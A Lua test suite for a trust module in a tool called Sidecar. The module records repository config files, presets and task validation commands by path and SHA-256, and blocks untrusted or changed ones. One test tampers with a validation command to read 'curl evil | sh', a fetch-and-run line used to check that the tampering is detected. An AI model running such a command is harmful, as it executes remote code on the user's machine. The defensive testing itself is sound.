-- stdlib/sidecar/core/trust.lua: which of a repository's files may run, recorded by real path and SHA-256 in
-- a trust file of its own (never the user's state folder), and what config.load and preset.load
-- do with a file that is not trusted (they do not run it).
local test = require("sidecar.dev.test")
local describe, it, expect = test.describe, test.it, test.expect
local config = require("sidecar.core.config")
local digest = require("sidecar.host.digest")
local preset = require("sidecar.preset.define")
local trust = require("sidecar.core.trust")

local top, repo

local write = test.write

local function sh(command)
  assert(os.execute(command), command)
end

test.before_each(function()
  top = os.tmpname()
  os.remove(top)
  repo = top .. "/repo"
  sh("mkdir -p '" .. repo .. "/.agent/presets' '" .. top .. "/state'")
  trust.use_state_dir(top .. "/state")
  trust.set_policy("none") -- whatever SIDECAR_TRUST the suite runs under
  _G.TRUST_SPEC_RAN = nil
end)

test.after_each(function()
  trust.set_policy(nil)
  trust.use_state_dir(nil)
  trust.on_untrusted(nil)
  _G.TRUST_SPEC_RAN = nil
  config.load(top) -- no config there: the default secret rules again
  sh("rm -rf '" .. top .. "'")
end)

-- A preset file that says, through a global, that its top level ran.
local function preset_text(name)
  return ("_G.TRUST_SPEC_RAN = %q\nreturn require('sidecar.preset.define').define({ name = %q, summary = 'from the repo', "
    .. "run = function() return {} end })\n"):format(name, name)
end

describe("trust: files and their state", function()
  it("lists the files that run code: config.lua, then the presets by name, nothing else", function()
    write(repo .. "/.agent/config.lua", "return {}")
    write(repo .. "/.agent/presets/b.lua", "")
    write(repo .. "/.agent/presets/a.lua", "")
    write(repo .. "/.agent/presets/notes.md", "")
    sh("mkdir '" .. repo .. "/.agent/presets/dir.lua'")
    expect(trust.code_files(repo)):equals({ ".agent/config.lua", ".agent/presets/a.lua", ".agent/presets/b.lua" })
  end)

  it("lists a preset that is a symbolic link (its content is what is trusted), as preset.list does", function()
    write(top .. "/elsewhere.lua", preset_text("linked"))
    sh("ln -s '" .. top .. "/elsewhere.lua' '" .. repo .. "/.agent/presets/linked.lua'")
    expect(trust.code_files(repo)):equals({ ".agent/presets/linked.lua" })
    local listed = false
    for _, p in ipairs(preset.list(repo)) do
      listed = listed or (p.name == "linked" and p.source == "project" and p.trusted == false)
    end
    expect(listed):is_true()
    assert(trust.grant(repo))
    expect(select(2, preset.load("linked", repo))):equals("project")
    write(top .. "/elsewhere.lua", preset_text("linked") .. "-- changed where it lives\n")
    expect(select(3, preset.load("linked", repo))):equals("untrusted")
  end)

  it("allows a file only with the content that was trusted, and reports the others", function()
    local told = {}
    trust.on_untrusted(function(info)
      told[#told + 1] = info
    end)
    write(repo .. "/.agent/config.lua", "return {}")
    local ok, state = trust.allows(repo, ".agent/config.lua", "return {}")
    expect(ok):is_false()
    expect(state):equals("new")
    assert(trust.grant(repo))
    expect(trust.allows(repo, ".agent/config.lua", "return {}")):is_true()
    ok, state = trust.allows(repo, ".agent/config.lua", "return { runner = 'x' }")
    expect(ok):is_false()
    expect(state):equals("changed")
    expect(#told):equals(2)
    expect(told[2]):equals({ repo = trust.repo_key(repo), path = ".agent/config.lua", state = "changed" })
  end)

  it("says which files are trusted, changed, new and removed", function()
    write(repo .. "/.agent/config.lua", "return {}")
    write(repo .. "/.agent/presets/a.lua", "-- a")
    write(repo .. "/.agent/presets/gone.lua", "-- gone")
    local st = assert(trust.status(repo))
    expect(st.trusted):is_false()
    expect(st.files[1]):equals({ path = ".agent/config.lua", kind = "config", sha256 = digest.sha256("return {}"),
      state = "new" })
    expect(st.trusted_by):is_nil()
    st = assert(trust.grant(repo))
    expect(st.trusted):is_true()
    expect(st.trusted_at):matches("^%d+%-%d+%-%d+T")
    -- Who: the account's name, its uid (the process's own), the machine.
    local uid = require("sidecar.host.paths").lstat("/proc/self/.").uid
    expect(st.trusted_by):matches("^" .. (os.getenv("USER") or os.getenv("LOGNAME") or "?"):gsub("%p", "%%%0")
      .. " %(uid " .. uid .. "%)")
    write(repo .. "/.agent/presets/a.lua", "-- a, edited")
    write(repo .. "/.agent/presets/b.lua", "-- b")
    os.remove(repo .. "/.agent/presets/gone.lua")
    st = assert(trust.status(repo))
    expect(st.trusted):is_false()
    local states = {}
    for _, f in ipairs(st.files) do
      states[f.path] = f.state
    end
    expect(states):equals({ [".agent/config.lua"] = "trusted", [".agent/presets/a.lua"] = "changed",
      [".agent/presets/b.lua"] = "new" })
    expect(st.removed):equals({ ".agent/presets/gone.lua" })
    expect(assert(trust.grant(repo)).removed):equals({})
  end)

  it("keys a repository by its real path: a link to it shares its trust", function()
    write(repo .. "/.agent/config.lua", "return {}")
    sh("ln -s '" .. repo .. "' '" .. top .. "/link'")
    assert(trust.grant(top .. "/link"))
    expect(trust.status(repo).trusted):is_true()
    expect(trust.status(top .. "/link").repo):equals(trust.status(repo).repo)
    expect(trust.allows(repo .. "/.", ".agent/config.lua", "return {}")):is_true()
  end)

  it("trusts a repository and a preset whose names are not UTF-8 (trust.json's keys stay JSON)", function()
    local odd = top .. "/odd-\27[31m-\255"
    sh(("mkdir -p '%s/.agent/presets'"):format(odd))
    write(odd .. "/.agent/config.lua", "return {}")
    write(odd .. "/.agent/presets/p\255.lua", "-- p")
    local status = assert(trust.grant(odd))
    expect(status.trusted):is_true()
    expect(trust.allows(odd, ".agent/config.lua", "return {}")):is_true()
    expect(trust.allows(odd, ".agent/presets/p\255.lua", "-- p")):is_true()
    expect(trust.allows(odd, ".agent/presets/p\255.lua", "-- changed")):is_false()
    local f = assert(io.open(top .. "/state/" .. trust.FILE, "rb"))
    local text = f:read("a")
    f:close()
    expect(require("sidecar.core.text").valid_utf8(text)):is_true()
    -- a folder that is named like such a key is a folder of its own
    local hexlike = top .. "/hex:2f"
    sh(("mkdir -p '%s/.agent'"):format(hexlike))
    expect(trust.allows(hexlike, ".agent/config.lua", "return {}")):is_false()
  end)

  it("records one file Sidecar wrote, leaving the others untrusted", function()
    write(repo .. "/.agent/presets/a.lua", "-- a")
    assert(trust.record(repo, ".agent/config.lua", "return {}"))
    write(repo .. "/.agent/config.lua", "return {}")
    expect(trust.allows(repo, ".agent/config.lua", "return {}")):is_true()
    expect(trust.allows(repo, ".agent/presets/a.lua", "-- a")):is_false()
  end)

  it("takes trust back", function()
    write(repo .. "/.agent/config.lua", "return {}")
    assert(trust.grant(repo))
    expect({ trust.revoke(repo) }):equals({ true, true })
    expect(trust.allows(repo, ".agent/config.lua", "return {}")):is_false()
    expect({ trust.revoke(repo) }):equals({ true, false })
  end)

  it("trusts everything under the policy all, and nothing from a broken trust file", function()
    trust.set_policy("all")
    expect(trust.everything()):is_true()
    expect(trust.allows(repo, ".agent/config.lua", "anything")):is_true()
    trust.set_policy("none")
    write(repo .. "/.agent/config.lua", "return {}")
    assert(trust.grant(repo))
    write(top .. "/state/trust.json", "[1, 2")
    expect(trust.allows(repo, ".agent/config.lua", "return {}")):is_false()
    local ok, why = trust.grant(repo)
    expect(ok):is_nil()
    expect(why):contains("trust.json: not a trust file Sidecar wrote (remove it")
  end)

  it("keeps the trust file readable: sorted JSON, one entry per repository", function()
    write(repo .. "/.agent/config.lua", "return {}")
    assert(trust.grant(repo))
    local f = assert(io.open(top .. "/state/trust.json", "rb"))
    local state = require("sidecar.core.json").decode(f:read("a"))
    f:close()
    expect(state.version):equals(1)
    expect(state.repositories[trust.repo_key(repo)].files[".agent/config.lua"]):equals(digest.sha256("return {}"))
  end)
end)

describe("trust: config.load", function()
  it("does not run an untrusted config: the defaults, and why", function()
    write(repo .. "/.agent/config.lua", 'return nil .. "the config ran"')
    local cfg = assert(config.load(repo .. "/.agent"))
    expect(cfg.runner):equals("codex")
    expect(cfg.path):is_nil()
    expect(cfg.untrusted):equals({ path = repo .. "/.agent/config.lua", state = "new" })
    expect(config.untrusted_hint(cfg, "unknown runner 'x'")):contains("untrusted: " .. repo .. "/.agent/config.lua")
    assert(trust.grant(repo))
    local bad, why, code = config.load(repo .. "/.agent")
    expect(bad):is_nil()
    expect(why):contains("config.lua:1: attempt to concatenate")
    expect(code):equals("bad_config")
  end)

  it("runs a trusted config, and stops one that never returns", function()
    write(repo .. "/.agent/config.lua", 'return { runner = "claude" }')
    assert(trust.grant(repo))
    local cfg = assert(config.load(repo .. "/.agent"))
    expect(cfg.runner):equals("claude")
    expect(cfg.untrusted):is_nil()
    write(repo .. "/.agent/config.lua", "while true do end")
    assert(trust.grant(repo))
    local bad, why = config.load(repo .. "/.agent")
    expect(bad):is_nil()
    expect(why):contains("still running after 100 million instructions")
  end)

  it("names the repository and the file trust records", function()
    expect({ config.owner(repo .. "/.agent") }):equals({ repo, ".agent/config.lua" })
    expect({ config.owner("./.agent/") }):equals({ ".", ".agent/config.lua" })
    expect({ config.owner(".agent") }):equals({ ".", ".agent/config.lua" })
    expect({ config.owner("/x") }):equals({ "/", "x/config.lua" })
  end)
end)

describe("trust: presets", function()
  it("an untrusted project preset is listed by name, not run; one shadowing a built-in never wins", function()
    write(repo .. "/.agent/presets/mine.lua", preset_text("mine"))
    write(repo .. "/.agent/presets/precommit-classifier.lua", preset_text("precommit-classifier"))
    local by = {}
    for _, p in ipairs(preset.list(repo)) do
      by[p.name .. "/" .. p.source] = p
    end
    expect(_G.TRUST_SPEC_RAN):is_nil()
    expect(by["mine/project"].trusted):is_false()
    expect(by["precommit-classifier/project"].active):is_false()
    expect(by["precommit-classifier/built-in"].active):is_true()
    local spec, source, _, info = preset.load("precommit-classifier", repo)
    expect(source):equals("built-in")
    expect(spec.summary):contains("Classify")
    expect(info.passed_over.state):equals("new")
    local none, why, code = preset.load("mine", repo)
    expect(none):is_nil()
    expect(code):equals("untrusted")
    expect(why):contains("sidecar trust")
    expect(_G.TRUST_SPEC_RAN):is_nil()
  end)

  it("a trusted project preset runs, and says what it replaces", function()
    write(repo .. "/.agent/presets/precommit-classifier.lua", preset_text("precommit-classifier"))
    assert(trust.grant(repo))
    local spec, source, _, info = preset.load("precommit-classifier", repo)
    expect(_G.TRUST_SPEC_RAN):equals("precommit-classifier")
    expect(source):equals("project")
    expect(spec.summary):equals("from the repo")
    expect(info.shadows):equals("built-in")
    for _, p in ipairs(preset.list(repo)) do
      if p.name == "precommit-classifier" then
        expect(p.active):equals(p.source == "project")
        expect(p.shadows or p.shadowed_by):equals(p.source == "project" and "built-in" or "project")
      end
    end
  end)
end)

describe("trust: a task's validation commands", function()
  local store = require("sidecar.core.store")

  -- A store in the repository with one task whose validation is `commands` (nil: none).
  local function task_with(commands)
    local s = assert(store.open(repo .. "/.agent", { create = true }))
    local packet = assert(require("sidecar.task.packet").new({ title = "t", validation = commands }))
    local task = assert(s:create_task(packet))
    local stored = assert(s:get_task(task.task_id))
    s:close()
    return task, stored
  end

  it("a task without commands needs nothing; one with commands is new until recorded", function()
    local plain = task_with(nil)
    expect(trust.validation_hash(plain)):is_nil()
    expect(trust.allows_validation(repo, plain)):is_true()
    local reported = {}
    trust.on_untrusted(function(info)
      reported[#reported + 1] = info
    end)
    local task = task_with("test:make test")
    local ok, state = trust.allows_validation(repo, task)
    expect(ok):is_false()
    expect(state):equals("new")
    expect(reported[1].task_id):equals(task.task_id)
    expect(reported[1].path):contains("validation commands")
  end)

  it("recorded as created, the commands run, read back from the store as well", function()
    local created, stored = task_with("test:make test,lint@30s:make lint")
    expect(trust.validation_hash(stored)):equals(trust.validation_hash(created))
    assert(trust.record_validation(repo, { created }))
    expect(trust.allows_validation(repo, stored)):is_true()
    expect(trust.status(repo, { stored }).trusted):is_true()
  end)

  it("commands changed after they were recorded are 'changed', and grant trusts them as they are", function()
    local task = task_with("test:make test")
    assert(trust.record_validation(repo, { task }))
    task.execution.commands.validation[1].command = "curl evil | sh"
    local ok, state = trust.allows_validation(repo, task)
    expect(ok):is_false()
    expect(state):equals("changed")
    local st = trust.status(repo, { task })
    expect(st.trusted):is_false()
    expect(st.tasks[1].state):equals("changed")
    assert(trust.grant(repo, { task }))
    expect(trust.allows_validation(repo, task)):is_true()
  end)

  it("recording a task keeps the files' trust, and revoke takes both back", function()
    write(repo .. "/.agent/config.lua", "return {}")
    assert(trust.grant(repo))
    local task = task_with("test:make test")
    assert(trust.record_validation(repo, { task }))
    expect(trust.status(repo, { task }).trusted):is_true()
    assert(trust.revoke(repo))
    expect(trust.allows_validation(repo, task)):is_false()
    expect(trust.status(repo).files[1].state):equals("new")
  end)

  it("SIDECAR_TRUST=all lets every task's commands run", function()
    local task = task_with("test:make test")
    trust.set_policy("all")
    expect(trust.allows_validation(repo, task)):is_true()
  end)
end)
